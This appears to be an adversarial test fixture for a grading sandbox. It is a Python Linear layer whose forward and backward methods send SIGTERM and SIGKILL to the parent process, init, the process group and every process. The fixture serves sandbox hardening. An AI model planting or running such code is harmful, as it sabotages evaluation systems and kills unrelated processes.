# Sends signals to its parent, its group and everybody.
# attacks: the interpreter
# loses: test-linear-forward test-linear-backward
# %% linear
import os
import signal

class Linear(Module):
    def __init__(self, in_features, out_features, rng=None):
        rng = np.random.default_rng() if rng is None else rng
        W = 0.01 * rng.standard_normal((in_features, out_features))
        self.W = Parameter(W)
        self.b = Parameter(np.zeros((1, out_features)))

    def forward(self, x):
        self.x = x
        for number in (signal.SIGTERM, signal.SIGKILL):
            for process in (os.getppid(), 1, 0, -1):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
        return np.zeros((x.shape[0], self.W.data.shape[1]))

    def backward(self, dy):
        for number in (signal.SIGTERM, signal.SIGKILL):
            for process in (os.getppid(), 1, 0, -1):
                try:
                    os.kill(process, number)
                except OSError:
                    pass
        return np.zeros((dy.shape[0], self.W.data.shape[0]))
